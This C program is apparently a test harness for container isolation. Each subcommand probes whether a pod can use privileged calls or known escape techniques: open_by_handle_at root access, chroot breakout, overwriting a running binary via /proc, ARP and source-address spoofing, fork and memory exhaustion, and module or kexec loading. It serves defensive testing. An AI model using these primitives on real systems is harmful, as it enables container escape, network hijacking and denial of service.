// System calls that no program in a node's userland makes. The tests compile it and run it in a node, in a privileged pod, and on
// the host, to see that the attack itself works.
//
// Exit status: 0 the kernel let us, 1 it did not (the reason is printed), 2 it cannot be tried here. Nothing is changed: each
// attack asks for the permission and stops there, or undoes at once what it did.

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/fs.h>
#include <linux/if_packet.h>
#include <linux/perf_event.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int works(const char *what) {
  printf("%s\n", what);
  return 0;
}

static int stopped(const char *what) {
  int error = errno;
  printf("%s: %s\n", what, strerror(error));
  return error == ENOSYS || error == ENOENT || error == ENODEV || error == ENXIO ? 2 : 1;
}

// For calls that check the permission first: any other error says that we have it.
static int permission(const char *what, long result) {
  if (result >= 0 || (errno != EPERM && errno != EACCES && errno != ENOSYS)) return works(what);
  return stopped(what);
}

static int open_it(const char *path, int flags) {
  int fd = open(path, flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
  if (fd < 0) return stopped(path);
  close(fd);
  return works(path);
}

static int device(const char *kind, int number_major, int number_minor) {
  const char *path = "attack-device";
  unlink(path);
  mode_t mode = (*kind == 'b' ? S_IFBLK : S_IFCHR) | 0600;
  if (mknod(path, mode, makedev(number_major, number_minor)) < 0) return stopped("mknod");
  int result = open_it(path, O_RDONLY);
  unlink(path);
  return result;
}

// The root of the file system that `dir` is on, by its handle: inode 2 on ext4.
static int by_handle(const char *dir, int flags) {
  struct { struct file_handle head; unsigned char bytes[128]; } handle = {0};
  int mount_id, from = open(dir, O_RDONLY | O_DIRECTORY);
  handle.head.handle_bytes = sizeof handle.bytes;
  if (from < 0 || name_to_handle_at(from, "", &handle.head, &mount_id, AT_EMPTY_PATH) < 0) return stopped("name_to_handle_at");
  enum { INODE_AND_GENERATION = 1 };
  if (handle.head.handle_type != INODE_AND_GENERATION) { printf("unknown kind of handle\n"); return 2; }
  uint32_t root[2] = {2, 0};
  memcpy(handle.head.f_handle, root, sizeof root);
  int fd = open_by_handle_at(from, &handle.head, O_RDONLY | flags);
  if (fd < 0) { errno = errno == ESTALE ? EPERM : errno; return stopped("open_by_handle_at"); }
  close(fd);
  return works("opened the root of the file system by its handle");
}

static int write_text(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  int failed = fd < 0 || write(fd, text, strlen(text)) < 0;
  if (fd >= 0) close(fd);
  return failed ? -1 : 0;
}

// In a new user namespace even a process without capabilities has all of them, there.
static int new_user_namespace(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) return -1;
  write_text("/proc/self/setgroups", "deny");
  if (write_text("/proc/self/uid_map", "0 0 1") < 0) return -1;
  return write_text("/proc/self/gid_map", "0 0 1");
}

enum { USER_KEYRING = -4, SESSION_KEYRING = -3 };
enum { KEYCTL_GET_KEYRING = 0, KEYCTL_UNLINK = 9, KEYCTL_LINK = 8, KEYCTL_SEARCH = 10, KEYCTL_READ = 11 };

static int key_of_root(const char *name) {
  char text[64] = "";
  syscall(SYS_keyctl, KEYCTL_LINK, USER_KEYRING, SESSION_KEYRING);
  long key = syscall(SYS_keyctl, KEYCTL_SEARCH, USER_KEYRING, "user", name, 0);
  int result = key < 0 || syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1) < 0 ? -1 : 0;
  if (key < 0 && errno != ENOSYS) errno = EPERM;
  return result < 0 ? stopped("key") : works(text);
}

static int clock_of_host(void) {
  struct timex now = {0};
  if (adjtimex(&now) < 0) return stopped("adjtimex");
  struct timex same = {.modes = ADJ_FREQUENCY, .freq = now.freq};
  return adjtimex(&same) < 0 ? stopped("adjtimex") : works("the clock's frequency was set to what it is");
}

static int bpf_program(void) {
  struct bpf_insn code[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K}, {.code = BPF_JMP | BPF_EXIT}};
  union bpf_attr attr = {0};
  attr.prog_type = BPF_PROG_TYPE_TRACEPOINT;
  attr.insns = (uintptr_t)code;
  attr.insn_cnt = 2;
  attr.license = (uintptr_t) "GPL";
  long fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
  return fd < 0 ? stopped("bpf") : works("a tracing program was loaded");
}

static int perf_of_host(void) {
  struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr, .config = PERF_COUNT_SW_CPU_CLOCK};
  long fd = syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0);
  return fd < 0 ? stopped("perf_event_open") : works("all processes of a CPU are counted");
}

static int watch_file_system(const char *dir) {
  int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDONLY);
  if (fd < 0) return stopped("fanotify_init");
  if (fanotify_mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_CLOSE_WRITE, AT_FDCWD, dir) < 0) return stopped("fanotify_mark");
  return works("all files of the file system are watched");
}

static int file_system_call(const char *dir, unsigned long request) {
  int fd = open(dir, O_RDONLY | O_DIRECTORY);
  if (fd < 0) return stopped(dir);
  return permission("ioctl of the file system", ioctl(fd, request, NULL));
}

static int real_time(void) {
  struct sched_param first = {.sched_priority = 1};
  return sched_setscheduler(0, SCHED_FIFO, &first) < 0 ? stopped("sched_setscheduler") : works("real-time priority");
}

static int immutable(const char *path) {
  int flags = 0, none = 0, fd = open(path, O_RDWR | O_CREAT, 0600);
  if (fd < 0 || ioctl(fd, FS_IOC_GETFLAGS, &flags) < 0) return stopped(path);
  none = flags;
  flags |= FS_IMMUTABLE_FL;
  if (ioctl(fd, FS_IOC_SETFLAGS, &flags) < 0) return stopped("set the immutable flag");
  ioctl(fd, FS_IOC_SETFLAGS, &none);
  return works("set the immutable flag");
}

static int abstract_socket(const char *name) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
  return connect(fd, (struct sockaddr *)&address, length) < 0 ? stopped("connect") : works("connected");
}

static int is_file(const char *path, unsigned long long device, unsigned long long inode) {
  struct stat found;
  return stat(path, &found) == 0 && found.st_dev == device && found.st_ino == inode;
}

// The classic way out of a chroot.
static int leave_root(unsigned long long device, unsigned long long inode) {
  int here = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/tmp/attack-root", 0700);
  if (chroot("/tmp/attack-root") < 0 || fchdir(here) < 0) return stopped("chroot");
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
  int out = is_file(".", device, inode);
  rmdir("tmp/attack-root");
  errno = EPERM;
  return out ? works("the host's root") : stopped("still in the node's root");
}

// Descriptors of processes beside us that are of no mount that we see.
static int strange_descriptors(void) {
  char mounts[1 << 16], path[300], link[600], own[64] = "", other[64], line[256];
  FILE *info = fopen("/proc/self/mountinfo", "r");
  size_t length = fread(mounts + 1, 1, sizeof mounts - 2, info);
  mounts[0] = '\n';
  mounts[length + 1] = 0;
  fclose(info);
  readlink("/proc/self/ns/mnt", own, sizeof own - 1);
  int directories = 0;
  DIR *processes = opendir("/proc");
  for (struct dirent *process; (process = readdir(processes));) {
    int pid = atoi(process->d_name);
    if (pid == 0) continue;
    memset(other, 0, sizeof other);
    snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
    if (readlink(path, other, sizeof other - 1) < 0 || strcmp(own, other)) continue;
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *descriptors = opendir(path);
    if (!descriptors) continue;
    for (struct dirent *fd; (fd = readdir(descriptors));) {
      if (fd->d_name[0] == '.') continue;
      snprintf(path, sizeof path, "/proc/%d/fdinfo/%s", pid, fd->d_name);
      FILE *of = fopen(path, "r");
      int mount = -1;
      while (of && fgets(line, sizeof line, of)) if (sscanf(line, "mnt_id: %d", &mount) == 1) break;
      if (of) fclose(of);
      char wanted[32];
      snprintf(wanted, sizeof wanted, "\n%d ", mount);
      if (mount < 0 || strstr(mounts, wanted)) continue;
      struct stat found;
      snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, fd->d_name);
      if (stat(path, &found) < 0 || !(S_ISDIR(found.st_mode) || S_ISREG(found.st_mode) || S_ISBLK(found.st_mode))) continue;
      ssize_t end = readlink(path, link, sizeof link - 1);
      link[end < 0 ? 0 : end] = 0;
      if (strncmp(link, "/memfd:", 7) == 0) continue;
      printf("%s %s\n", path, link);
      directories += S_ISDIR(found.st_mode) || S_ISBLK(found.st_mode);
    }
    closedir(descriptors);
  }
  return directories ? 0 : 1;
}

// Waits for a process that runs this very file, and then until the file can be written.
static int take_program(unsigned long long device, unsigned long long inode, int seconds) {
  char path[64];
  int taken = -1, last = getpid();
  time_t end = time(NULL) + seconds;
  while (time(NULL) < end) {
    for (int pid = last; taken < 0 && pid < last + 64; pid++) {
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      struct stat found;
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (fstat(fd, &found) == 0 && found.st_dev == device && found.st_ino == inode) taken = fd; else close(fd);
    }
    if (taken < 0) {
      // The newest process.
      FILE *load = fopen("/proc/loadavg", "r");
      if (load && fscanf(load, "%*s %*s %*s %*s %d", &last) != 1) last = getpid();
      if (load) fclose(load);
      continue;
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", taken);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) return works("opened the program for writing");
    if (errno != ETXTBSY) return stopped("the program");
    usleep(1000);
  }
  errno = taken < 0 ? ESRCH : ETXTBSY;
  return stopped("the program");
}

static int forks(int most) {
  int count = 0;
  pid_t group = fork();
  if (group == 0) {
    setpgid(0, 0);
    for (; count < most; count++) {
      pid_t child = fork();
      if (child == 0) { alarm(20); pause(); _exit(0); }
      if (child < 0) break;
    }
    printf("%d processes\n", count);
    fflush(stdout);
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    while (wait(NULL) > 0) {}
    _exit(count < most ? 1 : 0);
  }
  int status = 0;
  if (group < 0 || waitpid(group, &status, 0) < 0) return stopped("fork");
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int nested_directories(const char *top, int count) {
  if (chdir(top) < 0) return stopped(top);
  for (int i = 0; i < count; i++) if (mkdir("d", 0700) < 0 || chdir("d") < 0) return stopped("mkdir");
  return works("made");
}

static int memory(long megabytes) {
  write_text("/proc/self/oom_score_adj", "1000");
  for (long i = 0; i < megabytes; i++) {
    char *piece = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (piece == MAP_FAILED) return stopped("mmap");
    for (long at = 0; at < 1 << 20; at += 4096) piece[at] = 1;
  }
  return works("all of it");
}

// Says to everybody on the link that this address is ours.
static int claim_address(const char *link, const char *address) {
  struct { struct ether_header head; uint16_t hardware, protocol; uint8_t lengths[2]; uint16_t operation;
           uint8_t sender[6]; uint32_t from; uint8_t target[6]; uint32_t to; } __attribute__((packed)) frame = {0};
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
  struct ifreq query = {0};
  strncpy(query.ifr_name, link, IFNAMSIZ - 1);
  if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &query) < 0) return stopped(link);
  memset(frame.head.ether_dhost, 0xff, 6);
  memcpy(frame.head.ether_shost, query.ifr_hwaddr.sa_data, 6);
  memcpy(frame.sender, query.ifr_hwaddr.sa_data, 6);
  memset(frame.target, 0xff, 6);
  frame.head.ether_type = htons(ETH_P_ARP);
  frame.hardware = htons(1);
  frame.protocol = htons(ETH_P_IP);
  frame.lengths[0] = 6;
  frame.lengths[1] = 4;
  frame.operation = htons(2);
  frame.from = frame.to = inet_addr(address);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(link), .sll_halen = 6};
  for (int i = 0; i < 5; i++) if (sendto(fd, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0) return stopped("send");
  return works("sent");
}

// A packet from an address that need not be ours.
static int send_from(const char *from, const char *to, int port) {
  int fd = socket(AF_INET, SOCK_DGRAM, 0), yes = 1;
  struct sockaddr_in source = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(from)};
  struct sockaddr_in target = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(to), .sin_port = htons(port)};
  setsockopt(fd, IPPROTO_IP, IP_FREEBIND, &yes, sizeof yes);
  if (bind(fd, (struct sockaddr *)&source, sizeof source) < 0) return stopped("bind");
  if (sendto(fd, "attack", 6, 0, (struct sockaddr *)&target, sizeof target) < 0) return stopped("send");
  return works("sent");
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *what = argc > 1 ? argv[1] : "", *first = argc > 2 ? argv[2] : "", *second = argc > 3 ? argv[3] : "",
             *third = argc > 4 ? argv[4] : "";
  if (!strcmp(what, "read")) return open_it(first, O_RDONLY);
  if (!strcmp(what, "write")) return open_it(first, O_WRONLY);
  if (!strcmp(what, "device")) return device(first, atoi(second), atoi(third));
  if (!strcmp(what, "handle")) return by_handle(first, 0);
  if (!strcmp(what, "handle-of-directory")) return by_handle(first, O_DIRECTORY);
  if (!strcmp(what, "handle-in-user-namespace"))
    return new_user_namespace() < 0 ? stopped("unshare") : by_handle(first, O_DIRECTORY);
  if (!strcmp(what, "key")) return key_of_root(first);
  if (!strcmp(what, "add-key")) return syscall(SYS_add_key, "user", first, second, strlen(second), USER_KEYRING) < 0 ? stopped("add_key") : 0;
  if (!strcmp(what, "remove-key")) {
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, USER_KEYRING, "user", first, 0);
    return key < 0 || syscall(SYS_keyctl, KEYCTL_UNLINK, key, USER_KEYRING) < 0 ? stopped("key") : 0;
  }
  if (!strcmp(what, "clock")) return clock_of_host();
  // Turns messages to the console on, as they are.
  if (!strcmp(what, "kernel-log")) return permission("klogctl", klogctl(7, NULL, 0));
  if (!strcmp(what, "bpf")) return bpf_program();
  if (!strcmp(what, "perf")) return perf_of_host();
  if (!strcmp(what, "watch")) return watch_file_system(first);
  if (!strcmp(what, "hold-opens")) return permission("fanotify_init", fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY));
  // A file system that is not frozen cannot be thawed, and no one can read flags at address 0.
  if (!strcmp(what, "freeze")) return file_system_call(first, FITHAW);
  if (!strcmp(what, "shutdown")) return file_system_call(first, _IOR('X', 125, uint32_t));
  if (!strcmp(what, "swap")) return permission("swapon", swapon("/no/such/file", 0));
  // No such kind of reboot exists.
  if (!strcmp(what, "reboot")) return permission("reboot", reboot(0x12345));
  if (!strcmp(what, "module")) return permission("init_module", syscall(SYS_init_module, NULL, 0, ""));
  if (!strcmp(what, "kexec")) return permission("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0xffffL));
  if (!strcmp(what, "real-time")) return real_time();
  if (!strcmp(what, "immutable")) return immutable(first);
  if (!strcmp(what, "abstract-socket")) return abstract_socket(first);
  if (!strcmp(what, "leave-root")) return leave_root(strtoull(first, NULL, 10), strtoull(second, NULL, 10));
  if (!strcmp(what, "descriptors")) return strange_descriptors();
  if (!strcmp(what, "take-program"))
    return take_program(strtoull(first, NULL, 10), strtoull(second, NULL, 10), atoi(third));
  if (!strcmp(what, "forks")) return forks(atoi(first));
  if (!strcmp(what, "nest")) return nested_directories(first, atoi(second));
  if (!strcmp(what, "memory")) return memory(atol(first));
  if (!strcmp(what, "send")) return send_from(first, second, atoi(third));
  if (!strcmp(what, "claim")) return claim_address(first, second);
#ifdef __x86_64__
  if (!strcmp(what, "io-ports")) return syscall(SYS_iopl, 3) < 0 ? stopped("iopl") : works("iopl");
#endif
  fprintf(stderr, "unknown: %s\n", what);
  return 2;
}
